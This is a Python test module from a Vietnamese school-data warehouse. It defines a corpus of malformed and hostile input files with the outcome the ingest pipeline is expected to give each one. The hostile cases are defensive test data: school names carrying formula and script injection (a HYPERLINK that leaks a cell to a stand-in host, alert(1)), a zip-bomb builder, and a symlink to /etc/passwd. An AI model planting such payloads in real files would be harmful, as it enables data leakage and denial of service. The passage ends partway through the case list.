"""The bad-input corpus (issue 8): what schools really send, one file per case.

Each case writes its file(s) under a raw/ folder and says what the warehouse must make of
it: the outcome (`rejected`, `quarantined` rows, a `warning`, plainly `accepted`, a
`duplicate`, or `ignored` when the file is not even recorded), the rule, and words of the
Vietnamese message a data officer reads. `tests/test_bad_input_corpus.py` runs `cds run`
once over all of them and checks every case.

Where the corpus knows it (issue 21, item 9), a case also says which sheet the file's record,
its issues and its rows name (`sheet`: by default read from the workbook's own
`xl/workbook.xml` by `expected_sheet`, None for a CSV or a file that is no workbook), and the
(row, column) of every issue of its rule (`at`), counted from how the case writes its file:
a table written by `write_table` with a header block of four lines starts its header on row
6 (row 7 with a title line, as `cds` and `emis` write) and its data one row below.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import polars as pl
import xlsxwriter

from pipelines.generate.build import COLUMNS
from pipelines.generate.sync import COLUMNS as SYNC_COLUMNS
from pipelines.generate.writers import Layout, write_table
from tests.builders import write_c1_students, write_csdl_staff, write_registry

TH, MN, THCS = "31000001", "31000002", "31000003"
YEAR = "2024-2025"
REGISTRY = [
    (TH, "Trường Tiểu học Lê Lợi", "Tiểu học"),
    (MN, "Trường Mầm non Hoa Sen", "Mầm non"),
    (THCS, "Trường THCS Chu Văn An", "THCS"),
    # school names that would be live formulas or markup if written as they are (issue 14)
    ("31000004", '=HYPERLINK("http://x.invalid/?leak="&A1,"Bấm vào đây")', "Tiểu học"),
    ("31000005", "+2+3", "Tiểu học"),
    ("31000006", "@SUM(A1:A3) <script>alert(1)</script>", "Tiểu học"),
]
HOSTILE_NAMES = [name for _, name, _ in REGISTRY[3:]]

EMIS_ROWS = [
    ["101", "Tổng số lớp", 10, None, None],
    ["111", "Số lớp khối 1", 2, None, None],
    ["201", "Tổng số học sinh", 300, 150, 12],
]


def _emis_header(
    school: str = TH, year: str = YEAR, period: str = "Đầu năm", day: str = "05/10/2024"
):
    return [("Mã trường", school), ("Năm học", year), ("Kỳ báo cáo", period), ("Ngày báo cáo", day)]


def emis(path: Path, rows=None, columns=None, **header) -> None:
    write_table(
        path,
        header=_emis_header(**header),
        columns=columns or COLUMNS["emis_report"],
        rows=EMIS_ROWS if rows is None else rows,
        layout=Layout(title="BÁO CÁO THỐNG KÊ"),
    )


def student_row(i: int, **over: object) -> list[object]:
    row = {
        "Mã học sinh": f"{TH}{i:05d}",
        "Họ và tên": f"Nguyễn Văn {chr(65 + i % 26)}",
        "Ngày sinh": "12/03/2016",
        "Giới tính": "Nam",
        "Dân tộc": "Kinh",
        "Khối": "3",
        "Lớp": "Ba Ánh Dương",
        "Trạng thái": "Đang học",
        "Số định danh cá nhân": f"031216{i:06d}",
        "Học bạ số": "Đã ký",
        "KQHT HK1": "Hoàn thành",
        "KQHT HK2": "",
    }
    row.update(over)
    return list(row.values())


def _people_header(school: str = TH, year: str = YEAR, day: str = "30/09/2024"):
    return [
        ("Mã trường", school),
        ("Năm học", year),
        ("Kỳ báo cáo", "Đầu năm"),
        ("Ngày xuất dữ liệu", day),
    ]


def students(path: Path, rows: list[list[object]], **header) -> None:
    write_table(
        path,
        header=_people_header(**header),
        columns=COLUMNS["students"],
        rows=rows,
        layout=Layout(header_layout="split"),
    )


def students_csv_text(rows: list[list[object]], day: str = "30/09/2024") -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    for label, value in _people_header(day=day):
        w.writerow([f"{label}:", value])
    w.writerow([])
    w.writerow(COLUMNS["students"])
    w.writerows(rows)
    return out.getvalue()


def teacher_row(i: int = 1, **over: object) -> list[object]:
    row = {
        "Mã cán bộ": f"GV{i:03d}",
        "Họ và tên": "Trần Thị Mai",
        "Ngày sinh": "01/02/1985",
        "Giới tính": "Nữ",
        "Dân tộc": "Kinh",
        "Nhóm chức vụ": "Giáo viên",
        "Trình độ chuẩn": "Đạt chuẩn",
        "Trạng thái": "Đang làm việc",
        "Số định danh cá nhân": f"031185{i:06d}",
        "Chữ ký số": "Có",
        "Tài khoản bồi dưỡng": "Có",
    }
    row.update(over)
    return list(row.values())


def teachers(path: Path, rows: list[list[object]] | None = None, day: str = "30/09/2024") -> None:
    write_table(
        path,
        header=_people_header(school=THCS, day=day),
        columns=COLUMNS["teachers"],
        rows=rows or [teacher_row(1234)],
        layout=Layout(header_layout="split"),
    )


def cds(path: Path, rows=None, school: str = TH, columns=None) -> None:
    table = rows or [["1.1", "Nội dung", "Đạt", None, None, "KH số 12"]]
    write_table(
        path,
        header=[("Mã trường", school), ("Năm học", YEAR), ("Ngày báo cáo", "20/02/2025")],
        columns=columns or COLUMNS["cds_assessment"],
        rows=table,
        layout=Layout(title="PHIẾU TỰ ĐÁNH GIÁ"),
    )


def _xlsx_cells(path: Path, build: Callable) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path))
    build(wb, wb.add_worksheet("Báo cáo"))
    wb.close()


def _emis_top(ws, top: int = 0) -> int:
    for i, (label, value) in enumerate(_emis_header()):
        ws.write_string(top + i, 0, f"{label}: {value}")
    return top + len(_emis_header()) + 1


def merged_header(path: Path) -> None:
    """A title merged across the table and the header's 'Tổng số' merged over two rows."""

    def build(wb, ws):
        fmt = wb.add_format({"bold": True})
        ws.merge_range(0, 0, 0, 4, "BÁO CÁO THỐNG KÊ ĐẦU NĂM", fmt)
        row = _emis_top(ws, top=2)
        for c, name in enumerate(COLUMNS["emis_report"]):
            ws.merge_range(row, c, row + 1, c, name, fmt)
        for r, values in enumerate(EMIS_ROWS, start=row + 2):
            for c, v in enumerate(values):
                if v is not None:
                    ws.write(r, c, v)

    _xlsx_cells(path, build)


def formulas(path: Path) -> None:
    """Counts as formulas: one computes, one caches #VALUE!, one #DIV/0!."""

    def build(wb, ws):
        row = _emis_top(ws)
        for c, name in enumerate(COLUMNS["emis_report"]):
            ws.write_string(row, c, name)
        ws.write_row(row + 1, 0, ["101", "Tổng số lớp"])
        ws.write_formula(row + 1, 2, "=4+6", None, 10)
        ws.write_row(row + 2, 0, ["111", "Số lớp khối 1"])
        ws.write_formula(row + 2, 2, '="a"+1', None, "#VALUE!")
        ws.write_row(row + 3, 0, ["201", "Tổng số học sinh"])
        ws.write_formula(row + 3, 2, "=1/0", None, "#DIV/0!")

    _xlsx_cells(path, build)


def second_sheet(path: Path) -> None:
    """A cover sheet first, the report on the second sheet."""
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet("Hướng dẫn").write_string(0, 0, "Điền số liệu ở trang sau")
    ws = wb.add_worksheet("Số liệu")
    row = _emis_top(ws)
    ws.write_row(row, 0, COLUMNS["emis_report"])
    for r, values in enumerate(EMIS_ROWS, start=row + 1):
        for c, v in enumerate(values):
            if v is not None:
                ws.write(r, c, v)
    wb.close()


def password_protected(path: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    with tempfile.TemporaryDirectory() as tmp:
        plain = Path(tmp) / "plain.xlsx"
        emis(plain)
        with plain.open("rb") as f, path.open("wb") as out:
            OOXMLFile(f).encrypt("matkhau123", out)


def write_bytes(data: bytes) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return build


def truncated_xlsx(path: Path) -> None:
    emis(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def big_export(path: Path, n: int = 100_000) -> None:
    """A 100,000-row students export (CSV), as CSDL ngành writes for a large school."""
    path.parent.mkdir(parents=True, exist_ok=True)
    i = pl.col("i").cast(pl.String)
    frame = pl.DataFrame({"i": range(n)}).select(
        pl.concat_str(pl.lit(TH), i.str.zfill(7)).alias("Mã học sinh"),
        pl.lit("Phạm Thị Lan").alias("Họ và tên"),
        pl.lit("02/09/2015").alias("Ngày sinh"),
        pl.lit("Nữ").alias("Giới tính"),
        pl.lit("Kinh").alias("Dân tộc"),
        pl.lit("4").alias("Khối"),
        pl.lit("4B").alias("Lớp"),
        pl.lit("Đang học").alias("Trạng thái"),
        pl.concat_str(pl.lit("031315"), i.str.zfill(6)).alias("Số định danh cá nhân"),
        pl.lit("Đã ký").alias("Học bạ số"),
        pl.lit("Hoàn thành tốt").alias("KQHT HK1"),
        pl.lit(None, pl.String).alias("KQHT HK2"),
    )
    header = "".join(f"{label}:,{value}\n" for label, value in _people_header(day="01/10/2024"))
    path.write_text(header + "\n" + frame.write_csv(), encoding="utf-8")


# --- issue 14: real-world and hostile workbooks --------------------------------------------


def far_cell(row: int, col: int) -> Callable[[Path], None]:
    """A normal report, plus one stray cell at the sheet's far corner (2 KB on disk)."""

    def build(path: Path) -> None:
        def cells(wb, ws):
            top = _emis_top(ws)
            ws.write_row(top, 0, COLUMNS["emis_report"])
            for r, values in enumerate(EMIS_ROWS, start=top + 1):
                ws.write_row(r, 0, values)
            ws.write_string(row, col, "x")

        _xlsx_cells(path, cells)

    return build


def zip_bomb(path: Path) -> None:
    """A small workbook whose sheet expands to ~450 MB of XML (whitespace compresses well)."""
    import zipfile

    emis(path)
    with tempfile.TemporaryDirectory() as tmp:
        plain = Path(tmp) / "p.xlsx"
        plain.write_bytes(path.read_bytes())
        with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for info in src.infolist():
                data = src.read(info)
                if info.filename != "xl/worksheets/sheet1.xml":
                    out.writestr(info, data)
                    continue
                head, _, tail = data.partition(b"<sheetData>")
                with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
                    member.write(head + b"<sheetData>")
                    pad = b" " * (1 << 20)
                    for _ in range(450):
                        member.write(pad)
                    member.write(tail)


def _symlink(target: str | Callable[[Path], Path]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target(path) if callable(target) else target)

    return build


def _outside_folder(path: Path) -> Path:
    """A folder outside raw/ holding a teachers export that must never be read."""
    outside = path.parents[2] / "ngoai_raw"
    teachers(outside / "gv_ngoai.xlsx")
    return outside


def emis_grid(rows: list[list[object]], *, sheets=None, csv_sep: str | None = None):
    """A report written cell by cell: `rows` are whole sheet rows (header block included).
    `sheets` = [(name, rows, hidden)] writes several sheets instead."""

    def build(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        if csv_sep is not None:
            out = io.StringIO()
            csv.writer(out, delimiter=csv_sep, lineterminator="\n").writerows(rows)
            path.write_text(out.getvalue(), encoding="utf-8")
            return
        wb = xlsxwriter.Workbook(str(path))
        for name, sheet_rows, hidden in sheets or [("Báo cáo", rows, False)]:
            ws = wb.add_worksheet(name)
            for r, values in enumerate(sheet_rows):
                for c, v in enumerate(values):
                    if v is not None:
                        ws.write(r, c, v)
            if hidden:
                ws.hide()
            else:
                ws.activate()  # xlsxwriter never hides the active sheet
        wb.close()

    return build


def emis_rows(columns=None, body=None, school: str = THCS, period: str = "Cuối năm",
              day: str = "26/05/2025", gap: int = 1) -> list[list[object]]:  # fmt: skip
    top = [[f"{k}: {v}"] for k, v in _emis_header(school=school, period=period, day=day)]
    return [*top, *[[] for _ in range(gap)], columns or COLUMNS["emis_report"],
            *(EMIS_ROWS if body is None else body)]  # fmt: skip


def student_rows(body: list[list[object]], day: str) -> list[list[object]]:
    top = [[f"{k}:", v] for k, v in _people_header(day=day)]
    return [*top, [], COLUMNS["students"], *body]


def renamed(build: Callable[[Path], None], real_suffix: str) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        real = path.with_name(path.stem + "__real" + real_suffix)
        build(real)
        real.rename(path)

    return write


FEMALE_OF = "select sum(female) from landing.emis_report where _source_file = ?"
ISSUES_OF = "select count(*) from audit.ingest_issues where source_file = ? and rule_id = "
SUBMITTED_OF = "select min(submitted_on)::varchar from landing.emis_report where _source_file = ?"
SIGNED_OF = (
    "select count(*) filter (where has_digital_signature) from landing.teachers "
    "where _source_file = ?"
)
ACTIVE_OF = (
    "select list(is_active order by _row)::varchar from landing.students where _source_file = ?"
)


# every landed value of a report, in row order: `code:total:female:ethnic` (- for null)
VALUES_OF = (
    "select string_agg(indicator_code || ':' || coalesce(total::varchar, '-') || ':' || "
    "coalesce(female::varchar, '-') || ':' || coalesce(ethnic::varchar, '-'), ',' "
    "order by _row) from landing.emis_report where _source_file = ?"
)
EMIS_VALUES = "101:10:-:-,111:2:-:-,201:300:150:12"  # EMIS_ROWS as they must land

AUTO = "<read from the workbook>"


@dataclass(frozen=True)
class Case:
    name: str
    path: str  # relative to raw/
    build: Callable[[Path], None]
    outcome: str  # rejected | quarantined | warning | accepted | duplicate | ignored
    rule: str | None = None
    message: str | None = None  # words the Vietnamese message must contain
    rows_read: int | None = None
    # (SQL over the warehouse with one `?` for the file, expected first value): what landed
    landed: tuple[str, object] | None = None
    # the sheet the file's record names (None: a CSV, or no sheet was read); AUTO: see
    # `expected_sheet`
    sheet: str | None = AUTO
    # (row, column) of every issue of `rule`, in row order, None where the issue is the
    # file's (its value or message says where)
    at: tuple[tuple[int | None, str | None], ...] | None = None


def workbook_sheets(path: Path) -> list[tuple[str, bool]] | None:
    """(name, visible) of each sheet, from the zip's `xl/workbook.xml` (not the project's
    reader); None when the file is no zip workbook."""
    try:
        with zipfile.ZipFile(path) as z:
            xml = z.read("xl/workbook.xml").decode("utf-8")
    except (OSError, KeyError, zipfile.BadZipFile):
        return None
    sheets = []
    for tag in re.findall(r"<sheet\b[^>]*>", xml):
        name = re.search(r'\bname="([^"]*)"', tag).group(1)  # type: ignore[union-attr]
        sheets.append((_xml_text(name), 'state="hidden"' not in tag))
    return sheets


def _xml_text(text: str) -> str:
    return (
        text.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    )


def expected_sheet(case: Case, raw: Path) -> str | None:
    """The sheet the case's file must be recorded with: the case's own `sheet`, else none
    for a CSV or a file that is no zip workbook, else its first visible sheet."""
    if case.sheet != AUTO:
        return case.sheet
    path = raw / case.path
    if path.suffix.lower() == ".csv" or path.is_symlink() or not path.is_file():
        return None
    sheets = workbook_sheets(path)
    if not sheets:
        return None
    return next(name for name, visible in sheets if visible)


def _students(rows: list[list[object]], **header) -> Callable[[Path], None]:
    return lambda p: students(p, rows, **header)


def to_cp1258(text: str) -> bytes:
    """Windows-1258 as Vietnamese Windows software writes it: letters with circumflex, breve
    or horn precomposed (ê, ă, ơ), tone marks as combining characters."""
    out = []
    for ch in text:
        try:
            out.append(ch.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        base, *marks = unicodedata.normalize("NFD", ch)
        for m in [None, *marks]:
            letter = unicodedata.normalize("NFC", base + (m or ""))
            rest = [x for x in marks if x != m]
            try:
                out.append(letter.encode("cp1258") + "".join(rest).encode("cp1258"))
                break
            except UnicodeEncodeError:
                continue
        else:
            raise UnicodeEncodeError("cp1258", ch, 0, 1, "not in Windows-1258")
    return b"".join(out)


def _text(text: str, encoding: str) -> Callable[[Path], None]:
    return write_bytes(to_cp1258(text) if encoding == "cp1258" else text.encode(encoding))


GOOD = [student_row(i) for i in range(1, 4)]


def push(
    school: str,
    batch: str,
    status: str,
    counts: tuple[int, int, int],
    at: str,
    term: str = "HK1",
    stage: str = "GK1",
) -> list[object]:
    """One row of a push history (contract §2.7): counts are (pushed, succeeded, failed)."""
    pushed, succeeded, failed = counts
    return [school, "SMAS", YEAR, term, stage, batch, status, pushed, pushed, succeeded, failed, at]


def sync_log(rows: list[list[object]]) -> Callable[[Path], None]:
    """A push history as the province exports it: a title, the table, no header block
    (title on row 1, table header on row 3, data from row 4)."""

    def build(path: Path) -> None:
        write_table(path, header=[], columns=SYNC_COLUMNS, rows=rows,
                    layout=Layout(title="LỊCH SỬ ĐẨY DỮ LIỆU"))  # fmt: skip

    return build


# the issues and the current push a push-history case leaves, the file bound to `?` once
SYNC_ISSUE_OF = (
    "with f as (select ? as file) select message_vi from marts.data_quality_issues, f "
    "where source_file = f.file and rule_id = "
)
SYNC_CURRENT_OF = (
    "with f as (select ? as file) "
    "select status || ' ' || n_pushes::varchar || ' ' || success_rate::varchar || ' '"
    " || (select count(*) from marts.data_quality_issues i where i.source_file = f.file)::varchar"
    " from marts.data_sync_school, f where school_code = '{school}' and batch = 'classes'"
    " and term = 1"
)
SYNC_MISSING_OF = (
    "with f as (select ? as file) "
    "select regexp_replace(i.message_vi, 'quá hạn [0-9]+ ngày', 'quá hạn … ngày') || ' | '"
    " || u.item || ' ' || strftime(u.due_on, '%d/%m/%Y')"
    " from marts.data_quality_issues i, f"
    " join marts.follow_up_list u on u.school_code = i.school_code and u.message_vi = i.message_vi"
    " where f.file is not null and i.rule_id = 'sync_push_missing'"
    " and i.school_code = '{school}' and i.value = '{school}: Giáo viên, học kỳ 1, năm học 2024-2025'"
)
SYNC_RULES_OF = (
    "select string_agg(rule_id || ' ' || value, '; ' order by rule_id) "
    "from marts.data_quality_issues where source_file = ? and rule_id like '%pushed_vs%'"
)
PUSHED, TALLY, ALONE = "31000005", "31000006", "31000004"  # schools with no other files


def _landed(sql: str, expected: object) -> tuple[str, object]:
    return sql, expected


def _copy_of(name: str) -> Callable[[Path], None]:
    return lambda p: p.write_bytes((p.parent / name).read_bytes())


def c1_row(i: int, status: str = "Đang học") -> list[object]:
    """A pupil of a `C1-HocSinh` download (contract §2.8), in C1_COLUMNS order."""
    return [str(i), "L3A", f"C1{i:05d}", "Phạm Văn Tải", "12/03/2016", "Nam", status,
            "05/09/2024", "Kinh", "", f"031216{900 + i:06d}"]  # fmt: skip


def _c1(rows: list[list[object]]) -> Callable[[Path], None]:
    return lambda p: write_c1_students(p, rows)


def _csdl_staff(path: Path) -> None:
    write_csdl_staff(path, [["1", "CB901", "Lê Thị Tải", "01/02/1985", "Nữ", "Kinh",
                             "Đang làm việc", "Giáo viên THCS hạng III", "Giáo viên",
                             "031185000901", "Biên chế", "Toán", "Đại học"]])  # fmt: skip


# --- issue 19: the office's review decisions (contract §2.6), one table, no header block ---
REVIEW_COLUMNS = ["Mã trường", "Năm học", "Mã tiêu chí", "Kết quả thẩm định", "Điểm thẩm định",
                  "Lý do", "Người thẩm định", "Ngày thẩm định"]  # fmt: skip


def review(rows: list[list[object]], columns: list[str] | None = None) -> Callable[[Path], None]:
    """A review file (CSV) with `rows` under the contract's columns."""

    def build(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        out = io.StringIO()
        w = csv.writer(out, lineterminator="\n")
        w.writerow(columns or REVIEW_COLUMNS)
        w.writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8")

    return build


def review_row(indicator: str | None = "1.3.1", decision: str | None = "Đồng ý",
               score: object = None, reason: str | None = None, school: str = TH,
               day: str | None = "10/03/2025") -> list[object]:  # fmt: skip
    return [school, YEAR, indicator, decision, score, reason, "Phòng GD", day]


LAYOUT_OF = "select layout from audit.ingest_files where source_file = ?"
C1_DIR = f"students/{YEAR}/dau_nam"
CLASS_OF = "select min(class_name) from landing.students where _source_file = ?"
ID = "Số định danh cá nhân"

# fmt: off
CASES: list[Case] = [
    # files that cannot be read at all
    Case("zero-byte CSV", "students/rong.csv", write_bytes(b""),
         "rejected", "file_empty", "Tệp rỗng (0 byte)"),
    Case("zero-byte workbook", "emis_report/rong.xlsx", write_bytes(b""),
         "rejected", "file_empty", "0 byte"),
    Case("workbook with no cells", "emis_report/trang_trang.xlsx",
         lambda p: _xlsx_cells(p, lambda wb, ws: None),
         "rejected", "file_empty", "không có dữ liệu",
         sheet=None),
    Case("HTML saved as .xlsx", "emis_report/html.xlsx",
         write_bytes("<html><body><table><tr><td>Mã số</td></tr></table></body></html>".encode()),
         "rejected", "file_unreadable", "không phải Excel"),
    Case("CSV renamed .xlsx", "emis_report/csv_doi_ten.xlsx",
         write_bytes("Mã trường:,31000001\nMã số,Chỉ tiêu,Tổng số\n101,Tổng số lớp,10\n".encode()),
         "rejected", "file_unreadable", "Không đọc được tệp Excel"),
    Case("truncated (corrupt) zip", "emis_report/hong.xlsx", truncated_xlsx,
         "rejected", "file_unreadable", "tệp hỏng"),
    Case("password-protected workbook", "emis_report/mat_khau.xlsx", password_protected,
         "rejected", "file_password", "gỡ mật khẩu rồi nộp lại"),
    Case("PDF instead of a workbook", "emis_report/bao_cao.pdf", write_bytes(b"%PDF-1.4\n%..."),
         "rejected", "file_format", "không được hỗ trợ"),
    Case("binary bytes in a CSV", "students/nhi_phan.csv", write_bytes(b"\x00\x01\x02abc\x00" * 50),
         "rejected", "file_unreadable", "dữ liệu nhị phân"),
    # header block and header row
    Case("required column missing", "cds_assessment/thieu_cot.xlsx",
         lambda p: cds(p, columns=["Mã tiêu chí", "Nội dung", "Điểm", "Tử số", "Mẫu số", "Minh chứng"]),
         "rejected", "missing_required_column", "thiếu cột: Điểm tự đánh giá"),
    Case("no school code in the header", "emis_report/khong_ma.xlsx", lambda p: emis(p, school=""),
         "rejected", "header_missing_school_code", "Thiếu 'Mã trường'"),
    Case("unknown school code", "emis_report/truong_la.xlsx", lambda p: emis(p, school="31999999"),
         "rejected", "unknown_school", "'31999999' không có trong danh mục trường"),
    Case("school of the wrong level (CĐS of a kindergarten)", "cds_assessment/mam_non.xlsx",
         lambda p: cds(p, school=MN),
         "rejected", "level_out_of_scope", "Trường cấp MN không thuộc phạm vi"),
    Case("school year written wrong", "emis_report/nam_hoc_sai.xlsx", lambda p: emis(p, year="2024/25"),
         "rejected", "invalid_school_year", "Năm học '2024/25' không hợp lệ"),
    Case("period unknown", "emis_report/giua_nam.xlsx", lambda p: emis(p, period="Giữa năm"),
         "rejected", "invalid_period", "Kỳ báo cáo 'Giữa năm' không hợp lệ"),
    Case("period not in the calendar", "emis_report/2031.xlsx",
         lambda p: emis(p, year="2030-2031", day="05/10/2030"),
         "warning", "period_not_in_calendar", "không có trong lịch báo cáo", rows_read=3,
         at=((None, "Năm học"),)),
    Case("submission date missing", "emis_report/khong_ngay.xlsx", lambda p: emis(p, school=THCS, day=""),
         "warning", "missing_submission_date", "tính là nộp muộn", rows_read=3,
         at=((None, "Ngày báo cáo"),)),
    Case("merged title and header cells", "emis_report/o_gop.xlsx", merged_header,
         "accepted", rows_read=3,
         sheet="Báo cáo", landed=_landed(VALUES_OF, EMIS_VALUES)),
    Case("duplicated column", "cds_assessment/cot_lap.xlsx",
         lambda p: cds(p, rows=[["1.1", "Nội dung", "Đạt", "Không đạt", None, None, "KH"]],
                       columns=["Mã tiêu chí", "Nội dung", "Điểm tự đánh giá", "Điểm tự đánh giá",
                                "Tử số", "Mẫu số", "Minh chứng"]),
         "warning", "duplicate_column", "Cột bị lặp lại: chỉ dùng cột đầu tiên", rows_read=1,
         landed=_landed("select self_score_raw from landing.cds_assessment where _source_file = ?",
                        "Đạt"),
         at=((7, "Điểm tự đánh giá"),)),  # the header row
    Case("report on the second sheet", "emis_report/trang_2.xlsx", second_sheet,
         "accepted", rows_read=3,
         sheet="Số liệu", landed=_landed(VALUES_OF, EMIS_VALUES)),
    # cells
    # calamine reads a formula's cached value, and error cells (#VALUE!, #DIV/0!) as blank:
    # the file guard sees them in the sheet's XML, and the reader names each in a warning.
    Case("formulas and #VALUE! / #DIV/0! cells", "emis_report/cong_thuc.xlsx", formulas,
         "warning", "formula_error_cells", "C8 (cột 'Tổng số', dòng 8); C9 (cột 'Tổng số', dòng 9)",
         rows_read=3,
         landed=_landed("select list(total order by _row)::varchar from landing.emis_report "
                        "where _source_file = ?", "[10, NULL, NULL]"),
         at=((None, None),)),
    Case("numbers as text, thousands separators", "emis_report/hang_nghin.xlsx",
         lambda p: emis(p, school=THCS, period="Cuối năm", day="25/05/2025",
                        rows=[["101", "Tổng số lớp", "12", None, None],
                              ["201", "Tổng số học sinh", "1.234", "612", "1,020"]]),
         "accepted", rows_read=2,
         landed=_landed("select sum(total) + sum(female) + sum(ethnic) from landing.emis_report "
                        "where _source_file = ?", 12 + 1234 + 612 + 1020)),
    Case("decimal comma in a CĐS score", "cds_assessment/dau_phay.xlsx",
         lambda p: cds(p, school=THCS, rows=[["1.3.1", "Nội dung", "5,5", None, None, "LMS"]]),
         "accepted", rows_read=1,
         landed=_landed("select self_score from landing.cds_assessment where _source_file = ?", 5.5)),
    Case("negative count", "emis_report/so_am.xlsx",
         lambda p: emis(p, school=THCS, rows=[["101", "Tổng số lớp", -3, None, None]]),
         "quarantined", "invalid_count", "'Tổng số' phải là số nguyên không âm", rows_read=1,
         at=((9, "Tổng số"),)),
    Case("unknown EMIS code", "emis_report/ma_la.xlsx",
         lambda p: emis(p, period="Cuối năm", day="25/05/2025",
                        rows=[*EMIS_ROWS, ["999", "Chỉ tiêu lạ", 1, None, None]]),
         "quarantined", "unknown_emis_code", "không có trong danh mục chỉ tiêu", rows_read=4,
         at=((12, "Mã số"),)),
    Case("birth date in the future", "students/sinh_tuong_lai.xlsx",
         _students([student_row(1, **{"Ngày sinh": "01/01/2031"}), *GOOD[1:]], day="01/10/2024"),
         "warning", "invalid_birth_date", "trong tương lai", rows_read=3,
         at=((7, "Ngày sinh"),)),
    Case("birth date before 1900", "students/sinh_1850.xlsx",
         _students([student_row(5, **{"Ngày sinh": "01/01/1850"})], day="02/10/2024"),
         "warning", "invalid_birth_date", "trước 1900", rows_read=1,
         at=((7, "Ngày sinh"),)),
    Case("personal ID of the wrong length", "students/cccd_sai.xlsx",
         _students([student_row(6, **{"Số định danh cá nhân": "03121600"})], day="03/10/2024"),
         "warning", "id_wrong_format", "đúng 12 chữ số", rows_read=1,
         at=((7, "Số định danh cá nhân"),)),
    Case("blank and duplicated student codes", "students/ma_trung.xlsx",
         _students([student_row(7), student_row(7), student_row(8, **{"Mã học sinh": ""})],
                   day="04/10/2024"),
         "quarantined", "duplicate_student_code", "bị trùng trong tệp", rows_read=3,
         at=((8, "Mã học sinh"),)),
    Case("Windows-1258 CSV", "students/cp1258.csv",
         _text(students_csv_text([student_row(20), student_row(21)], day="05/10/2024"), "cp1258"),
         "accepted", rows_read=2, landed=_landed(CLASS_OF, "Ba Ánh Dương")),
    Case("UTF-16 CSV", "students/utf16.csv",
         _text(students_csv_text([student_row(22)], day="06/10/2024"), "utf-16"),
         "accepted", rows_read=1, landed=_landed(CLASS_OF, "Ba Ánh Dương")),
    Case("100,000-row export", "students/lon.csv", big_export,
         "accepted", rows_read=100_000,
         landed=_landed("select count(distinct person_key) from landing.students "
                        "where _source_file = ?", 100_000)),
    Case("teachers export", "teachers/gv.xlsx", teachers, "accepted", rows_read=1),
    Case("registry listing a school twice", "schools/bo_sung.xlsx",
         lambda p: write_registry(p.parents[1], [REGISTRY[0], REGISTRY[0], *REGISTRY[1:]], name=p.name),
         "quarantined", "duplicate_school_code", "bị trùng trong danh mục",
         rows_read=len(REGISTRY) + 1,
         at=((5, "Mã trường"),)),
    # the same file twice, and editor droppings
    Case("original of a copy", "emis_report/ban_goc.xlsx",
         lambda p: emis(p, school=THCS, day="06/10/2024"), "accepted", rows_read=3),
    Case("same file under another name", "emis_report/ban_sao.xlsx", _copy_of("ban_goc.xlsx"),
         "duplicate", "duplicate_file", "trùng nội dung với tệp đã nạp 'emis_report/ban_goc.xlsx'"),
    Case("Excel lock file", "emis_report/~$ban_goc.xlsx", write_bytes(b"\x00lock"), "ignored"),
    # issue 14: files that must not stop or swell a run
    Case("stray cell at XFD1048576", "emis_report/o_xa_goc.xlsx", far_cell(1048575, 16383),
         "rejected", "sheet_too_large", "có ô ở XFD1048576"),
    Case("stray cell at CV1048576", "emis_report/o_xa_cv.xlsx", far_cell(1048575, 99),
         "rejected", "sheet_too_large", "xoá các dòng, cột thừa"),
    Case("stray cell 300 columns right", "cds_assessment/o_xa_cot.xlsx",
         lambda p: _xlsx_cells(p, lambda wb, ws: (ws.write_row(0, 0, COLUMNS["cds_assessment"]),
                                                  ws.write_string(5, 300, "ghi chú"))),
         "rejected", "sheet_too_large", "có ô ở KO6"),
    Case("zip bomb (450 MB of XML in a small file)", "emis_report/bom_nen.xlsx", zip_bomb,
         "rejected", "file_too_large", "bom nén"),
    Case("symbolic link to /etc/passwd", "students/passwd.csv", _symlink("/etc/passwd"),
         "rejected", "file_symlink", "liên kết (symlink) tới '/etc/passwd'"),
    Case("symbolic link to a folder outside raw/", "teachers/thu_muc_ngoai",
         _symlink(_outside_folder), "rejected", "file_symlink", "không phải tệp thật"),
    # files that say what they really are
    Case(".xlsx renamed .xls (read by content)", "emis_report/doi_duoi.xls",
         renamed(lambda p: emis(p, school=THCS, period="Cuối năm", day="27/05/2025"), ".xlsx"),
         "accepted", rows_read=3),
    Case("PDF renamed .xlsx", "emis_report/pdf_doi_ten.xlsx", write_bytes(b"%PDF-1.4\n%\xe2"),
         "rejected", "file_unreadable", "thực chất là: tài liệu PDF"),
    Case("workbook renamed .csv", "students/excel_doi_ten.csv",
         renamed(_students(GOOD), ".xlsx"),
         "rejected", "file_unreadable", "thực chất là Excel .xlsx: đổi đuôi thành .xlsx"),
    Case("no header found: the closest row is shown", "emis_report/sai_tieu_de.xlsx",
         emis_grid(emis_rows(columns=["Mã", "Tên chỉ tiêu", "Số lượng", "Nữ", "Dân tộc"])),
         "rejected", "missing_required_column", "dòng gần đúng nhất (dòng 6): Mã | Tên chỉ tiêu"),
    # which sheet
    Case("hidden sheet with last year's figures", "emis_report/trang_an.xlsx",
         emis_grid([], sheets=[
             ("Năm trước", emis_rows(body=[["201", "Tổng số học sinh", 999, 999, 9]]), True),
             ("Năm nay", emis_rows(body=[["201", "Tổng số học sinh", 310, 155, 11]]), False)]),
         "warning", "hidden_sheet_skipped", "Bỏ qua trang tính ẩn: 'Năm trước'", rows_read=1,
         landed=_landed(FEMALE_OF, 155),
